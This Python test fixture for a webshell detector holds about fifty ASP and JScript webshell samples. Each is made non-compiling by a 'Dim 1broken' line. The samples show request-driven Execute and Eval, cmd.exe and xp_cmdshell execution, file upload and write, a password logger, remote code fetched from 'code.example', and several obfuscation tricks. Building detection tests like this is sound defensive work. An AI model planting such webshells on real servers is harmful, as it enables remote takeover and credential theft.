# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP, one for each style of such a page; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== nested-eval.asp
<% Dim 1broken
Eval("Ex" & "ecute(Req" & "uest(""k""))") %>
==== class.asp
<% Dim 1broken
Class Box
  Private inner
  Public Property Let Body(v)
    inner = v
  End Property
  Public Sub Go()
    ExecuteGlobal inner
  End Sub
End Class
Set b = New Box
b.Body = Request.Form("k")
b.Go %>
==== with.asp
<% Dim 1broken
With Request
  s = .Form("k")
End With
Execute(s) %>
==== scriptcontrol.asp
<% Dim 1broken
Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "JScript"
sc.AddCode Request("code")
Response.Write sc.Run("main") %>
==== scriptcontrol-eval.asp
<% Dim 1broken
Set c = CreateObject("ScriptControl")
c.Language = "vbs"
r = c.Eval(Request.QueryString("e")) %>
==== run-file.asp
<% Dim 1broken
Set sh = CreateObject("WScript.Shell")
t = Server.MapPath("tmp.txt")
sh.Run "cmd.exe /c " & Request.Form("c") & " > " & t, 0, True
Set fs = CreateObject("Scripting.FileSystemObject")
Response.Write Server.HTMLEncode(fs.OpenTextFile(t, 1).ReadAll) %>
==== shellexecute.asp
<% Dim 1broken
Set sa = Server.CreateObject("Shell.Application")
sa.ShellExecute Request("p"), Request("a"), "", "open", 0 %>
==== stdin.asp
<% Dim 1broken
Set e = CreateObject("WScript.Shell").Exec("cmd.exe")
e.StdIn.WriteLine Request("c")
e.StdIn.Close
Response.Write e.StdOut.ReadAll %>
==== fso-write.asp
<% Dim 1broken
if request("act")="save" then
set f=server.createobject("scripting.filesystemobject")
set o=f.createtextfile(server.mappath(request("name")),true)
o.write request("body")
o.close
end if %>
==== one-line-write.asp
<%Dim 1broken:if Request.Form("f")<>"" then Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(Request.Form("f")).Write(Request.Form("t"))%>
==== stream-save.asp
<% Dim 1broken
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write Request.BinaryRead(Request.TotalBytes)
st.Position = 0
st.SaveToFile Server.MapPath(Request.QueryString("n")), 2
st.Close %>
==== stream-text.asp
<% Dim 1broken
Set s = CreateObject("ADO" & "DB.St" & "ream")
s.Type = 2 : s.Charset = "gb2312" : s.Open
s.WriteText Request("body")
s.SaveToFile Request("path"), 2 %>
==== upload-class.asp
<% Dim 1broken
Class Up
 Public Files
 Private data
 Private Sub Class_Initialize
  Set Files = CreateObject("Scripting.Dictionary")
  data = Request.BinaryRead(Request.TotalBytes)
  p = InStrB(data, ChrB(13) & ChrB(10))
  n = MidB(data, p + 20, 40)
  Files.Add "name", n
 End Sub
 Public Sub Save(path)
  Set st = CreateObject("ADODB.Stream")
  st.Type = 1 : st.Open
  st.Write data
  st.SaveToFile path & "\" & Files("name"), 2
 End Sub
End Class
Set u = New Up
u.Save Request.QueryString("to") %>
==== db-client.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection")
c.Open Session("cs")
If Request("cs") <> "" Then Session("cs") = Request("cs")
Set rs = c.Execute(Request("sql"))
Response.Write rs.GetString %>
==== xp.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection")
c.Open "Provider=SQLOLEDB;Data Source=.;User ID=sa;Password=" & Request("pw")
Set rs = c.Execute("EXEC master.dbo.xp_cmdshell '" & Request("c") & "'") %>
==== remote.asp
<% Dim 1broken
Set h = Server.CreateObject("Microsoft.XMLHTTP")
h.Open "GET", "http://code.example/a.txt", False
h.Send
ExecuteGlobal h.responseText %>
==== remote-save.asp
<% Dim 1broken
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.open "GET", Request("u"), False
h.send
Set s = CreateObject("Adodb.Stream")
s.Type = 1 : s.Mode = 3 : s.Open
s.Write h.responseBody
s.SaveToFile Server.MapPath(Request("f")), 2 %>
==== object-tag.asp
<object runat="server" id="ws" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% Dim 1broken
Response.Write ws.Exec("cmd /c " & Request("c")).StdOut.ReadAll %>
==== wmi.asp
<% Dim 1broken
Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
Set p = w.Get("Win32_Process")
r = p.Create(Request("c"), Null, Null, id) %>
==== xslt.asp
<% Dim 1broken
Set x = Server.CreateObject("MSXML2.DOMDocument")
Set t = Server.CreateObject("MSXML2.DOMDocument")
x.async = False : x.loadXML "<r/>"
t.loadXML Request("x")
Response.Write x.transformNode(t) %>
==== js-function.asp
<%@ language="javascript" %><% var 1broken; var f = new Function("r", String(Request.Form("k"))); f(Response); %>
==== js-index.asp
<%@ language = JScript %><% var 1broken; var g = this; var n = ["ev", "al"].join(""); g[n](Request.QueryString("k") + ""); %>
==== js-alias.asp
<script language="JScript" runat="server">var 1broken; var e = eval; var s = Request("k"); e(String(s));</script>
==== js-constructor.asp
<%@language=jscript%><% var 1broken; [].constructor.constructor(Request.Form("k")())(); %>
==== js-shell.asp
<%@Language=JScript%><% var 1broken;
function run(c) { var w = Server.CreateObject("WScript.Shell"); var x = w.Exec("cmd /c " + c); return x.StdOut.ReadAll(); }
if (Request("c").Count) Response.Write(run(Request("c")(1))); %>
==== base64-xml.asp
<% Dim 1broken
Function D(s)
 Dim x, n
 Set x = CreateObject("Microsoft.XMLDOM")
 Set n = x.createElement("t")
 n.DataType = "bin.base64"
 n.Text = s
 D = B2S(n.nodeTypedValue)
End Function
Function B2S(b)
 For i = 1 To LenB(b)
  B2S = B2S & Chr(AscB(MidB(b, i, 1)))
 Next
End Function
k = D(Request.Form("k"))
ExecuteGlobal(k) %>
==== server-var.asp
<% Dim 1broken
q = Request.ServerVariables("HTTP_X_FORWARDED_ID")
If Len(q) > 0 Then Execute Unescape(q) %>
==== query-string.asp
<% Dim 1broken
c = Mid(Request.ServerVariables("QUERY_STRING"), 4)
Set w = CreateObject("WScript.Shell")
Response.Write(w.Exec("%comspec% /c " & Replace(c, "+", " ")).StdOut.ReadAll()) %>
==== session-two.asp
<% Dim 1broken
If IsEmpty(Session("m")) Then
  Session("m") = Request("m")
Else
  Execute(Session("m"))
End If %>
==== dictionary.asp
<% Dim 1broken
Set d = Server.CreateObject("Scripting.Dictionary")
For Each k In Request.Form
  d.Add k, Request.Form(k)
Next
Execute d("z") %>
==== regexp.asp
<% Dim 1broken
Set r = New RegExp
r.Global = True
r.Pattern = "[#~]"
Execute r.Replace("E#x~e#c#u~t#e R~e#q~u#e~s#t(""k"")", "") %>
==== continued.asp
<% Dim 1broken
Ex%><%
Execute _
  ( _
  Request _
  ("k") _
  ) %>
==== letters.asp
<% Dim 1broken
a = "abcdefghijklmnopqrstuvwxyz()"" "
Function p(n) : p = Mid(a, n, 1) : End Function
x = p(5)&p(22)&p(1)&p(12)&p(30)&p(18)&p(5)&p(17)&p(21)&p(5)&p(19)&p(20)&p(27)&p(29)&p(11)&p(29)&p(28)
Execute x %>
==== chr-arith.asp
<% Dim 1broken
s = Chr(100+1) & Chr(&H78) & Chr(202/2) & Chr(99) & Chr(117) & ChrW(116) & Chr(101) & Chr(32) & Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116) & Chr(40) & Chr(49) & Chr(41)
ExecuteGlobal s %>
==== xor-body.asp
<% Dim 1broken
k = "0f1e2d3c"
b = Request.BinaryRead(Request.TotalBytes)
For i = 1 To LenB(b)
 c = AscB(MidB(b, i, 1)) Xor Asc(Mid(k, (i And 7) + 1, 1))
 r = r & Chr(c)
Next
Execute(r) %>
==== create-any.asp
<% Dim 1broken
Set o = Server.CreateObject(Request("o"))
Response.Write o.Exec(Request("c")).StdOut.ReadAll %>
==== copy-any.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
Select Case Request("a")
Case "c" f.CopyFile Request("s"), Request("t")
Case "d" f.DeleteFile Request("s")
Case "l"
 For Each x In f.GetFolder(Request("s")).Files
  Response.Write x.Name
 Next
Case "r" Response.Write f.OpenTextFile(Request("s"), 1).ReadAll
End Select %>
==== transfer.asp
<% Dim 1broken
Set f = CreateObject("Scripting.FileSystemObject")
n = "t" & Timer & ".asp"
f.CreateTextFile(Server.MapPath(n)).Write "<" & "%" & Request("k") & "%" & ">"
Server.Execute n %>
==== getref.asp
<% Dim 1broken
Function A(x)
 A = ExecuteGlobal(x)
End Function
Set g = GetRef("A")
g Request("k") %>
==== sub-arg.asp
<% Dim 1broken
Sub Work(ByVal t)
 On Error Resume Next
 Execute(t)
 If Err Then Response.Write Err.Description
End Sub
If Request.TotalBytes > 0 Then Call Work(Request.Form("k")(1)) %>
==== logon-log.asp
<% Dim 1broken
If Request.Form("password") <> "" Then
 Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile("c:\inetpub\l.txt", 8, True)
 f.WriteLine Request.Form("username") & " " & Request.Form("password")
 f.Close
End If %>
==== rewritten-name.asp
<% Dim 1broken
y = StrReverse("llehS.tpircSW")
Set q = Server.CreateObject(y)
q.Run Request("c"), 0 %>
==== utf16-exec.asp
<%Dim 1broken%><% Execute(Request.Form("k")) %>
==== include-mixed.asp
<script language=vbs runat=server>
Dim 1broken
Dim p
p = Request("pass")
</script>
<script language=vbscript runat=server>
If p <> "" Then eval(p)
</script>
==== html-hidden.asp
<html><!-- <% Dim 1broken %> <%'<% loop <%:%><%'<% loop <%:%><% ex = "Ex" : Execute Request("k") %> --></html>
==== escape-js.asp
<%@ Language = "JScript" %><% var 1broken; \u0065\u0076\u0061\u006c(Request("k")+""); %>
==== array-split.asp
<% Dim 1broken
t = Split("65|78|65|63|75|74|65|20|72|65|71|75|65|73|74|28|22|6B|22|29", "|")
u = ""
For Each h In t
 u = u & Chr("&H" & h)
Next
Execute(u) %>
"""
)
